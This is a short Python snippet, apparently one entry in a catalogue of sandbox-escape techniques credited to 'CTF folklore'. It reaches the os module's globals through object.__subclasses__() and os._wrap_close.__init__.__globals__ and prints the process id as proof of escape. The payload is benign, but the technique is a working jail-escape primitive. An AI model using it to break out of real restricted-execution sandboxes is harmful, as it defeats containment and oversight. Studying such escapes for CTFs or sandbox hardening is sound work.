# technique: os._wrap_close.__init__.__globals__: the classic way to os
# goal: globals
# source: CTF folklore
for kind in object.__subclasses__():
    if kind.__name__ == '_wrap_close':
        print('ESCAPED pid=%d' % kind.__init__.__globals__['getpid']())
